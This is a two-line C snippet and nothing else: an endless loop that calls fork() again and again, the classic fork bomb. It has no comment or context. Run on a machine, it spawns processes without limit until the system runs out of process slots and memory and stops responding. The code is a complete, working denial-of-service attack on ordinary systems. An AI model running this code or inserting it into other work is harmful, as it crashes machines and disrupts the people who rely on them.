for (;;)
    fork();
